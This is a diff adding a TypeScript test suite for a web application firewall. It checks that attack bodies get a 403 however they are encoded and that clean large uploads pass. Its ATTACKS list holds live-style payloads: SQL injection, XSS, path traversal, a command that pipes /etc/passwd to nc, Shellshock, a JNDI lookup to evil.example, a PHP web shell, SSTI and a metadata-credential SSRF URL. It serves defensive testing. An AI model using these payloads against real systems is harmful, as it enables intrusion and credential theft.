@@ -1,0 +1,283 @@
+import { createHash, randomBytes } from 'node:crypto';
+import { createServer } from 'node:http';
+import { type AddressInfo, connect } from 'node:net';
+import { gzipSync } from 'node:zlib';
+import { loadManagedRules } from '@palisade/managed-rules';
+import { compileRuleSet } from '@palisade/waf-engine';
+import { type EdgeHarness, startEdge } from '../../test-support/edge-harness.ts';
+import { HOST, stopAll, stopLater } from '../../test-support/forwarding-edge.ts';
+import { eventually } from '../../test-support/raw-client.ts';
+import { EdgeAction } from '../verdict.ts';
+
+const MEGABYTE = 1_000_000;
+const ATTACKS = {
+  sql: "1' UNION SELECT username, password FROM users-- -",
+  script: '<script>alert(document.cookie)</script>',
+  path: '../../../../../../etc/passwd',
+  command: ';cat /etc/passwd|nc 192.0.2.9 4444',
+  shellshock: '() { :;}; /bin/bash -c "cat /etc/passwd"',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack has it.
+  lookup: '${jndi:ldap://evil.example/a}',
+  php: "<?php system($_GET['c']); ?>",
+  template: "{{''.__class__.__mro__[1].__subclasses__()}}",
+  request: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+  object: 'O:8:"stdClass":1:{s:4:"name";s:5:"admin";}',
+  directory: '*)(uid=*))(|(uid=*',
+} as const;
+const MARK = 'UNION SELECT';
+const TYPES = [
+  ...['', 'a/b', 'image/png', 'application/octet-stream', 'application/x-json', 'application/csp-report'],
+  ...['application/graphql', 'application/x-ndjson', 'text/html', 'text/plain', 'video/mp4', 'text/csv'],
+];
+
+interface Arrived {
+  length: number;
+  hash: string;
+}
+
+interface Stand {
+  edge: EdgeHarness;
+  /** Requests that came to their end at the origin. */
+  arrived: Arrived[];
+  /** The origin was sent an attack, be it in a request without end. */
+  sawAttack(): boolean;
+}
+
+const ruleSet = compileRuleSet(loadManagedRules());
+const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+
+/** An edge with the managed rules, and an origin that says what it got. */
+async function stand(sensitivity: 'low' | 'medium' | 'high'): Promise<Stand> {
+  const arrived: Arrived[] = [];
+  let isHit = false;
+  const server = createServer((request, response) => {
+    const hash = createHash('sha256');
+    let length = 0;
+    let before = '';
+    request.on('data', (chunk: Buffer) => {
+      length += chunk.length;
+      hash.update(chunk);
+      if ((before + chunk.toString('latin1')).includes(MARK)) isHit = true;
+      before = chunk.toString('latin1', Math.max(0, chunk.length - MARK.length));
+    });
+    request.on('error', () => undefined);
+    request.on('end', () => {
+      arrived.push({ length, hash: hash.digest('hex') });
+      response.end('ok');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const edge = await startEdge((server.address() as AddressInfo).port, { ruleSet }, (config) => {
+    config.policy!.paranoiaLevel = { low: 1, medium: 2, high: 3 }[sensitivity];
+  });
+  stopLater(async () => {
+    server.closeAllConnections();
+    server.close();
+  }, edge.stop);
+  return { edge, arrived, sawAttack: () => isHit };
+}
+
+/** The status of the answer, once the edge has closed the connection; 0: there was none. */
+const send = (port: number, bytes: Buffer, leaveEarly = false): Promise<number> =>
+  new Promise((resolve) => {
+    let answer = '';
+    const socket = connect(port, '127.0.0.1', () =>
+      socket.write(bytes, () => {
+        if (leaveEarly) socket.destroy();
+      }),
+    );
+    socket.on('data', (chunk) => {
+      answer += chunk.toString('latin1');
+    });
+    socket.on('error', () => undefined);
+    socket.on('close', () => resolve(Number(/^HTTP\/1.1 (\d+)/.exec(answer)?.[1] ?? 0)));
+  });
+
+const utf8 = (text: string) => Buffer.from(text, 'utf8');
+const typed = (type: string) => (type === '' ? '' : `Content-Type: ${type}\r\n`);
+
+/** A POST as it is on the wire. */
+const wire = (headers: string, body: Buffer, path = '/upload'): Buffer =>
+  Buffer.concat([
+    utf8(
+      `POST ${path} HTTP/1.1\r\n${HOST}Connection: close\r\n${headers}Content-Length: ${body.length}\r\n\r\n`,
+    ),
+    body,
+  ]);
+
+const chunked = (headers: string, body: Buffer, piece = 50_000): Buffer => {
+  const pieces: Buffer[] = [
+    utf8(`POST /upload HTTP/1.1\r\n${HOST}Connection: close\r\n${headers}Transfer-Encoding: chunked\r\n\r\n`),
+  ];
+  for (let at = 0; at < body.length; at += piece) {
+    const part = body.subarray(at, at + piece);
+    pieces.push(utf8(`${part.length.toString(16)}\r\n`), part, utf8('\r\n'));
+  }
+  return Buffer.concat([...pieces, utf8('0\r\n\r\n')]);
+};
+
+const form = (value: string) => utf8(`page=1&comment=${encodeURIComponent(value)}`);
+const json = (value: string) => utf8(JSON.stringify({ page: 1, items: [{ comment: value }] }));
+
+/** As browsers send it: fields and files in this order. */
+const FORM_TYPE = 'Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryA1\r\n';
+type Part = { name: string; value?: string; file?: Buffer; filename?: string; headers?: string };
+function browserForm(parts: readonly Part[]): Buffer {
+  const pieces = parts.flatMap(({ name, value, file, filename, headers }) => [
+    utf8(
+      `------WebKitFormBoundaryA1\r\nContent-Disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${filename ?? 'photo.jpg'}"\r\nContent-Type: image/jpeg`}\r\n${headers ?? ''}\r\n`,
+    ),
+    file ?? utf8(value ?? ''),
+    utf8('\r\n'),
+  ]);
+  return Buffer.concat([...pieces, utf8('------WebKitFormBoundaryA1--\r\n')]);
+}
+const photo = (bytes: number) => randomBytes(bytes);
+
+afterEach(stopAll);
+
+describe.each(['medium', 'high'] as const)('at %s', (sensitivity) => {
+  it('an attack is found in a body however it is called and packed', async () => {
+    const { edge, arrived } = await stand(sensitivity);
+    const missed: string[] = [];
+    let sent = 0;
+    const expectStopped = async (name: string, bytes: Buffer) => {
+      sent += 1;
+      const status = await send(edge.port, bytes);
+      if (status !== 403) missed.push(`${name}: ${status}`);
+    };
+    for (const [family, attack] of Object.entries(ATTACKS)) {
+      for (const type of TYPES) {
+        await expectStopped(`${family} form as '${type}'`, wire(typed(type), form(attack)));
+        await expectStopped(`${family} JSON as '${type}'`, wire(typed(type), json(attack)));
+      }
+      const two = 'Content-Type: text/plain\r\nContent-Type: application/json\r\n';
+      await expectStopped(`${family} two types`, wire(two, json(attack)));
+      await expectStopped(`${family} text in chunks`, chunked(typed('text/plain'), form(attack), 7));
+      const packed = gzipSync(json(attack));
+      await expectStopped(`${family} gzip`, wire(`${typed('text/plain')}Content-Encoding: gzip\r\n`, packed));
+      const twice = `${typed('application/json')}Content-Encoding: gzip, gzip\r\n`;
+      await expectStopped(`${family} gzip twice`, wire(twice, gzipSync(packed)));
+      const base64 = {
+        name: 'q',
+        value: utf8(attack).toString('base64'),
+        headers: 'Content-Transfer-Encoding: base64\r\n',
+      };
+      await expectStopped(`${family} base64 part`, wire(FORM_TYPE, browserForm([base64])));
+    }
+    expect(missed).toEqual([]);
+    expect(sent).toBe(11 * 29);
+    expect(arrived).toEqual([]);
+  });
+
+  it.each([0.3, 1.2, 8, 30])(
+    'an attack behind a photo of %d MB is stopped before the origin gets it',
+    async (megabytes) => {
+      const { edge, arrived, sawAttack } = await stand(sensitivity);
+      const file = photo(megabytes * MEGABYTE);
+      const behind: Record<string, Part[]> = {
+        field: [{ name: 'q', value: ATTACKS.sql }],
+        'field behind another photo': [
+          { name: 'b', file },
+          { name: 'q', value: ATTACKS.sql },
+        ],
+        'field in base64': [
+          {
+            name: 'q',
+            value: utf8(ATTACKS.sql).toString('base64'),
+            headers: 'Content-Transfer-Encoding: base64\r\n',
+          },
+        ],
+        'name of a file': [{ name: 'b', file: photo(100), filename: '../../../../etc/passwd' }],
+      };
+      for (const [where, parts] of Object.entries(behind)) {
+        const body = browserForm([{ name: 'a', file }, ...parts, { name: 'last', value: 'x' }]);
+        for (const bytes of [wire(FORM_TYPE, body), chunked(FORM_TYPE, body)])
+          expect([where, await send(edge.port, bytes)]).toEqual([where, 403]);
+      }
+      expect(arrived).toEqual([]);
+      expect(sawAttack()).toBe(false);
+      expect(edge.records.map(({ action, reason }) => [action, reason])).toEqual(
+        Array(8).fill([EdgeAction.BLOCK, 'rule']),
+      );
+    },
+  );
+
+  it.each([0.1, 1.1, 8])(
+    'a photo of %d MB arrives as it was sent, in a form and alone',
+    async (megabytes) => {
+      const { edge, arrived } = await stand(sensitivity);
+      const file = photo(megabytes * MEGABYTE);
+      const body = browserForm([
+        { name: 'title', value: 'At the lake' },
+        { name: 'a', file },
+        { name: 'b', file },
+        { name: 'note', value: 'Ünter' },
+      ]);
+      const answers = [
+        await send(edge.port, wire(FORM_TYPE, body)),
+        await send(edge.port, chunked(FORM_TYPE, body)),
+        await send(edge.port, wire(typed('image/jpeg'), file)),
+        await send(edge.port, chunked(typed('application/octet-stream'), file)),
+      ];
+      expect(answers).toEqual([200, 200, 200, 200]);
+      expect(arrived.map(({ hash }) => hash)).toEqual([body, body, file, file].map(sha));
+    },
+  );
+
+  it('forms and documents up to 1 MiB pass, their last value is looked at, and longer ones are too long', async () => {
+    const { edge } = await stand(sensitivity);
+    const words = (bytes: number) => 'some ordinary words '.repeat(bytes / 20);
+    const list = (bytes: number, last: string) =>
+      utf8(JSON.stringify([...Array(Math.ceil(bytes / 2000)).fill(words(1996)), last]));
+    const cases: [string, Buffer, number][] = [
+      ['form', utf8(`text=${words(300_000)}`), 200],
+      ['form', utf8(`text=${words(1_000_000)}&q=${encodeURIComponent(ATTACKS.sql)}`), 403],
+      ['form', utf8(`text=${words(1_300_000)}`), 413],
+      ['json', list(300_000, 'x'), 200],
+      ['json', list(1_000_000, ATTACKS.sql), 403],
+      ['json', list(1_500_000, 'x'), 413],
+      ['none', list(1_500_000, 'x'), 413],
+    ];
+    const types = { form: 'application/x-www-form-urlencoded', json: 'application/json', none: '' };
+    for (const [type, body, status] of cases)
+      expect([
+        type,
+        body.length,
+        await send(edge.port, wire(typed(types[type as keyof typeof types]), body)),
+      ]).toEqual([type, body.length, status]);
+    const fields = browserForm(
+      Array.from({ length: 60 }, (_, index) => ({ name: `f${index}`, value: words(25_000) })),
+    );
+    expect(await send(edge.port, wire(FORM_TYPE, fields))).toBe(413);
+    const tooLong = edge.records.filter(({ status }) => status === 413);
+    expect(tooLong.map(({ action, reason }) => [action, reason])).toEqual(
+      Array(4).fill([EdgeAction.REJECT, 'body_too_large']),
+    );
+  });
+});
+
+it('50 MB in a form arrive at any sensitivity, and the record says how many bytes', async () => {
+  const { edge, arrived } = await stand('high');
+  const body = browserForm([
+    { name: 'a', file: photo(50 * MEGABYTE) },
+    { name: 'note', value: 'done' },
+  ]);
+  expect(await send(edge.port, wire(FORM_TYPE, body))).toBe(200);
+  expect(arrived).toEqual([{ length: body.length, hash: sha(body) }]);
+  await eventually(() => edge.records.length === 1);
+  expect(edge.records[0]!.requestBytes).toBe(body.length);
+});
+
+it('a client that leaves in the middle of a window leaves nothing behind', async () => {
+  const { edge, arrived } = await stand('medium');
+  const body = browserForm([
+    { name: 'a', file: photo(3 * MEGABYTE) },
+    { name: 'note', value: 'half a fie' },
+  ]);
+  const cut = wire(FORM_TYPE, body);
+  await send(edge.port, cut.subarray(0, cut.length - 40), true);
+  await eventually(() => edge.records.length === 1);
+  expect(edge.records[0]).toMatchObject({ clientLeft: true });
+  expect(arrived).toEqual([]);
+});
